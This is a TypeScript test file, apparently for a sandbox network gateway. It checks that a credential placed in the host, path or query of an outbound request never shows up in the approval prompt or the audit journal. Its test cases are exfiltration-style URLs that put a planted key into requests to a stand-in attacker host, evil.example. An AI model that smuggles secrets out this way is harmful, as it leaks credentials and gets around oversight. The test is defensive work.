// Must not happen: a sandbox that has got hold of a credential has it shown to people and written into the journal, by
// asking for something whose address holds it.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type ApprovalGround, openApprovalGround } from '../../support/approval-ground.ts';
import { plantedKey } from '../../support/attack-ground.ts';

let ground: ApprovalGround;

beforeAll(async () => {
  ground = await openApprovalGround({
    allow: [{ host: 'open.example' }, { host: '*', ask: true, plain_http: true }],
    credentials: { key: { hosts: ['open.example'], inject: { bearer: true } } },
  });
  await ground.gateway.register({ container_ip: '127.0.0.1', id: 'asker' });
  await ground.watch();
  await ground.gateway.setSecret('key', plantedKey);
  // What is used is known.
  expect((await ground.curl('https://open.example/')).code).toBe(0);
});

afterAll(() => ground.stop());

describe('a credential is neither shown nor written down', () => {
  test.each([
    ['host', `http://${plantedKey}.evil.example/in-host`],
    ['path', `http://evil.example/in-path/${plantedKey}`],
    ['query', `http://evil.example/in-query?key=${plantedKey}`],
  ])('that stands in the %s of what is asked for', async (where, url) => {
    const run = ground.curl(url);
    const [question] = await ground.waiting();
    expect(question!.path).toContain(`/in-${where}`);
    expect(JSON.stringify(question)).not.toContain(plantedKey);
    await ground.answer(question!.id, { answer: 'deny' });
    expect((await run).stdout).toContain('approval.denied');
    const journal = await ground.gateway.journal();
    expect(journal.some((record) => record.note === 'approval' || String(record.text).startsWith('denied'))).toBe(true);
    expect(JSON.stringify(journal)).not.toContain(plantedKey);
  });
});
